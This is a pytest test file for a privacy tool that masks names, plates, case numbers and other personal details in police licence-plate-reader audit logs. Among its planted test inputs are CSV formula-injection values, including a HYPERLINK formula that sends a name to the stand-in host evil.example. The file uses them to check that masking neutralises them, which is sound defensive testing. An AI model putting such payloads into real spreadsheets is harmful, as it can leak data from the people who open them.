"""A masked copy holds nothing that could name anybody, gives the same numbers, and its certificate claims no more."""

import csv
import hashlib
import io
import json
import re
import shutil
import tomllib
import zipfile

import containers
import hostile
import pytest
from hypothesis import given
from hypothesis import strategies as st

from analysis import build, masked, places
from analysis.masked import cells, copies, proof
from analysis.privacy.masking import MASK, known_parts, vocabulary
from analysis.reasons import classify_text, load

SECRETS = (
    "Quarnley", "Xyloth", "QZX4417", "QZY 5528", "WQZ6642", "poncho", "25-7741932", "7741932", "Brundlewick", "Othmar",
    "A219 448 807", "219448807", "03/17/1984", "x.quarnley@tarnwick.example", "555-0142", "5550142", "Vexmoor",
    "Zzyx", "ⓆⓊⒶⓇ", "deadbeefcafe", "RQZ7753",
)  # fmt: skip
HEADER = (
    "ID", "Name", "Org Name", "Total Networks Searched", "Total Devices Searched", "Time Frame", "License Plate",
    "Reason", "Case #", "Filters", "Search Time", "Search Type", "Text Prompt", "Moderation", "Notes of Vexmoor", "Day",
)  # fmt: skip
FRAME = "12/01/2025, 01:00:00 AM UTC\n12/02/2025, 01:00:00 AM UTC"
REASONS = (
    "theft", "ICE hold", "ICE/Quarnley hold", "Quarnley", "investigation", "investigation Othmar", "25-7741932",
    "warrant Brundlewick, Othmar dob 03/17/1984", "theft x.quarnley@tarnwick.example", "stolen QZX4417 call 555-0142",
    "A219 448 807 immigration", "8 USC 1325(a)", "I.C.E. Zzyx", "Immigration (civil/administrative) - Quarnley",
    '=HYPERLINK("http://evil.example/Quarnley","theft")', "+theft", "@cmd Zzyx", "-2+3", "ⓆⓊⒶⓇ theft",
    "homeland\nOthmar", "QZY 5528", "", "***", "drug investigation", "plate WQZ6642", "2 1 9 4 4 8 8 0 7",
    "Robbery - Xyloth's car",
)  # fmt: skip


def record(number, reason, **other):
    row = {
        "ID": f"00000000-0000-4000-8000-{number:012}", "Name": "X. Quarnley", "Org Name": "Quellmere GA PD",
        "Total Networks Searched": "9", "Total Devices Searched": "1,080", "Time Frame": FRAME,
        "License Plate": "QZX4417", "Reason": reason, "Case #": "25-7741932", "Filters": "blue QZY 5528",
        "Search Time": f"12/02/2025, 12:{number % 60:02}:00 AM UTC", "Search Type": "lookup",
        "Text Prompt": "man in poncho", "Moderation": "allow", "Notes of Vexmoor": "ask Othmar", "Day": "Tuesday Zzyx",
    }  # fmt: skip
    return [{**row, **other}[name] for name in HEADER]


def rows():
    slipped = {
        "ID": "Quarnley 1", "Org Name": "Othmar Brundlewick", "Total Networks Searched": "5550142",
        "Total Devices Searched": "call 555-0142", "Time Frame": "RQZ7753", "Search Type": "Zzyx",
        "Moderation": "Xyloth",
    }  # fmt: skip
    untimed = record(98, "theft", **{"Search Time": "Quarnley dob 03/17/1984"})
    return [
        list(HEADER),
        *(record(at, reason) for at, reason in enumerate(REASONS)),
        record(90, "theft", **slipped | {"Total Networks Searched": "n/a"}),
        record(91, "theft", **slipped),
        untimed,
        [*record(99, "theft Quarnley"), "RQZ7753"],
        ["Total", "QZX4417"],
        [],
        list(HEADER),
        record(100, "burglary"),
    ]


ENTRY = 'columns = { "Notes of Vexmoor" = "ignored", "Day" = "ignored" }\n'


@pytest.fixture
def root(tmp_path, monkeypatch):
    shutil.copytree(places.root() / "data" / "hand", tmp_path / "data" / "hand")
    monkeypatch.setenv("ANALYSIS_ROOT", str(tmp_path))
    return tmp_path


def release(root, name, data, more=ENTRY, place="tarnwick", log="organization audit"):
    folder = root / "data" / "raw" / place
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    text = (
        f"[[file]]\nname = {json.dumps(name)}\nsha256 = '{hashlib.sha256(data).hexdigest()}'\nlog = '{log}'\n"
        f"camera_owner = 'Tarnwick ISD'\n{more}"
    )
    toml = folder / "source.toml"
    toml.write_text((toml.read_text() if toml.exists() else "") + text)
    return places.find(place)


def masked_of(root, name, data, **more):
    """The bytes of a file's masked copy, its certificate and the proof."""
    folder, made, said = masked.make(release(root, name, data, **more), lambda _: None)
    certificate = tomllib.loads((folder / masked.CERTIFICATE).read_text())
    return (folder / made[-1].path.name).read_bytes(), certificate, said


def table(data):
    return list(csv.reader(io.StringIO(data.decode())))


CONTAINERS = {
    "log.csv": containers.delimited(rows()),
    "log.tsv": containers.delimited(rows(), "\t", "\r\n", "utf-16-le", b"\xff\xfe"),
    "log.xlsx": containers.xlsx([row for row in rows() if row], [["Vexmoor", "hidden"]], hidden=(1,)),
    "log.zip": containers.zipped(
        {"in/log.csv": containers.delimited(rows()), "letter of Xyloth Quarnley.txt": b"Dear Othmar"}
    ),
}


@pytest.mark.parametrize("name", CONTAINERS)
def test_no_planted_word_is_in_any_byte_that_is_written(root, name):
    release(root, name, CONTAINERS[name])
    folder, made, _ = masked.make(places.find("tarnwick"), lambda _: None)
    files = {path.name: path.read_bytes() for path in folder.rglob("*") if path.is_file()}
    assert sorted(files) == [masked.CERTIFICATE, "masked-log.zip" if name == "log.zip" else "masked-log.csv"]
    if name == "log.zip":
        with zipfile.ZipFile(folder / "masked-log.zip") as archive:
            files |= {member: archive.read(member) for member in archive.namelist()}
        assert "in/log.csv" in files
    for file, data in files.items():
        text = f"{file}\n{data.decode('utf-8', 'replace')}".casefold()
        assert [secret for secret in SECRETS if secret.casefold() in text] == []
    assert made[0].records == len([row for row in rows() if row or name != "log.xlsx"]) - 1 + (
        name == "log.xlsx"
    )


def test_personal_columns_are_masked_cell_by_cell_and_others_stay(root):
    data, certificate, _ = masked_of(root, "log.csv", CONTAINERS["log.csv"])
    lines = table(data)
    assert lines[0] == [*HEADER[:14], MASK, MASK] or lines[0][:14] == list(HEADER[:14])
    first = dict(zip(HEADER, lines[1]))
    kept = (
        "ID",
        "Org Name",
        "Total Devices Searched",
        "Time Frame",
        "Search Time",
        "Search Type",
        "Moderation",
    )
    assert [first[name] for name in kept] == [dict(zip(HEADER, record(0, "theft")))[name] for name in kept]
    personal = ("Name", "License Plate", "Case #", "Filters", "Text Prompt", "Notes of Vexmoor", "Day")
    assert {first[name] for name in personal} == {MASK}
    assert first["Reason"] == "theft"
    counts = certificate["copy"][0]["cells"]
    assert counts["License Plate"] == len(REASONS) + 4
    assert len(lines) == len(rows()), "every record is there, also those that are no rows"


def test_reasons_keep_the_words_that_may_stay_and_what_the_rules_make_of_them(root):
    data, *_ = masked_of(root, "log.csv", CONTAINERS["log.csv"])
    found = dict(zip(REASONS, (line[7] for line in table(data)[1:])))
    assert found["ICE/Quarnley hold"] == "ICE/*** hold"
    assert found["investigation Othmar"] == f"investigation {cells.WORD}"
    assert found["25-7741932"] == "00-0000000"
    assert found["8 USC 1325(a)"] == "8 USC 1325(a)"
    assert found["Immigration (civil/administrative) - Quarnley"].startswith(
        "Immigration (civil/administrative) - ***"
    )
    assert (found[""], found["***"]) == ("", "***")
    assert not any(reason.startswith(("=", "+", "@", "-")) for reason in found.values())
    rules = load(places.root() / "data" / "hand" / "reasons")
    for old, new in found.items():
        before, after = (classify_text(text, rules) for text in (old, new))
        assert (before.tier, before.kind, before.topics) == (after.tier, after.kind, after.topics), old


def test_a_copy_stands_in_for_its_release_and_gives_the_numbers_that_its_proof_says(root):
    plain = [list(HEADER), *(record(at, text) for at, text in enumerate(("theft", "ICE hold", "theft")))]
    _, certificate, said = masked_of(root, "log.csv", containers.delimited(plain))
    assert [line for line in said if not line.startswith(("compared", "column has_case_number"))] == []
    place = places.find("tarnwick")
    build.build(place)
    rows_before = build.open_searches(place)
    source = place.raw / "source.toml"
    source.write_text(source.read_text() + certificate["copy"][0]["paste"])
    shutil.move(place.processed / "masked" / "masked-log.csv", place.raw)
    (place.raw / "log.csv").unlink()
    place = places.find("tarnwick")
    build.build(place)
    assert build.open_files(place)["copy"].tolist() == ["masked"]
    rows_after = build.open_searches(place)
    same = ["searched_at", "search_key", "topics", "immigration_tier", "released_id", "reason_as_released"]
    assert rows_after[same].equals(rows_before[same])
    with pytest.raises(copies.NothingToMask, match="only a masked copy is at hand"):
        masked.make(place, lambda _: None)


def test_only_what_was_computed_is_claimed(root):
    told = [
        list(HEADER[:14]),
        *(record(at, text)[:14] for at, text in enumerate(("theft Othmar", "theft Zzyx"))),
    ]
    without = [[cell for at, cell in enumerate(row) if at not in (1, 6, 8, 9, 12)] for row in told]
    _, _, said = masked_of(root, "log.csv", containers.delimited(without), more="")
    assert "measure distinct_reasons: 2 released, 1 masked" in said
    assert proof.SAME not in said
    same = [[cell.replace(" Othmar", "").replace(" Zzyx", "") for cell in row] for row in without]
    data, certificate, said = masked_of(
        root, "other.csv", containers.delimited(same), more="", place="mockville"
    )
    assert said[-1] == proof.SAME
    assert certificate["proof"] == said
    (one,) = certificate["copy"]
    assert one["masked_sha256"] == hashlib.sha256(data).hexdigest()
    assert one["cells"] == {}
    assert 'masked = "cells, whole or word by word: none"' in one["paste"]


def test_a_copy_of_a_copy_is_the_same_and_so_is_a_second_run(root):
    data, *_ = masked_of(root, "log.csv", CONTAINERS["log.csv"])
    again = masked.make(places.find("tarnwick"), lambda _: None)
    assert (again[0] / "masked-log.csv").read_bytes() == data
    twice, *_ = masked_of(root, "copy.csv", data, place="mockville")
    assert twice == data


def test_two_files_get_two_copies(root):
    data = containers.delimited(rows())
    release(root, "log.csv", data)
    place = release(root, "log.tsv", data.replace(b"burglary", b"robbery"))
    folder, made, _ = masked.make(place, lambda _: None)
    assert [one.path.name for one in made] == ["masked-log.csv", "masked-log.tsv.csv"]
    assert len(set(folder.glob("*.csv"))) == 2


@pytest.mark.parametrize("container", ["csv", "xlsx", "parquet", "zip.zip"])
def test_every_quirk_of_real_exports_can_be_masked(root, container):
    files = [file for file in hostile.good() if file.name.partition(".")[2] == container][::4]
    for file in files:
        place = release(root, file.name, file.data, more="", log="network audit")
    folder, made, said = masked.make(place, lambda _: None)
    assert [one.records for one in made] == [file.records for file in files]
    assert not any(line.startswith(("measure searches:", "measure immigration_searches")) for line in said), (
        said
    )
    written = b"".join(path.read_bytes() for path in folder.iterdir() if path.suffix != ".zip")
    assert b"XX0XX00" not in written
    assert b"O. Inv" not in written


@given(st.text(max_size=60))
def test_what_stays_of_any_text_is_known_and_masking_twice_changes_nothing(text):
    printed = known_parts(text)
    known = vocabulary()
    assert known_parts(printed) == printed
    if text.strip().casefold() not in known.whole and not known.begins.match(text):
        initials = r"(?i)(?<![^\W_])[a-z](?:\.[a-z])+(?![^\W_])"
        joined = re.sub(initials, lambda found: found[0].replace(".", ""), printed)
        for word in re.findall(r"[^\W\d_]+|\d+", joined):
            assert word.casefold() in known.words | known.numbers


def test_no_word_of_a_real_log_stays_that_may_not(root, records):
    path = records / "eugene-or" / "EPDSearchAuditLogs.csv"
    data, certificate, _ = masked_of(root, path.name, path.read_bytes(), more="", log="portal audit")
    lines = table(data)
    assert len(lines) == 4_295
    at = lines[0].index("reason")
    known = vocabulary()
    words = {
        word
        for line in lines[1:]
        for word in re.findall(r"[^\W\d_]+|\d+", known.begins.sub("", line[at], count=1).casefold())
    }
    assert {word for word in words if not known.knows(word) and set(word) - {"x", "0"}} <= {"masked"}
    assert {line[lines[0].index("userId")] for line in lines[1:]} == {MASK}
    assert certificate["copy"][0]["cells"]["userId"] == 4_294
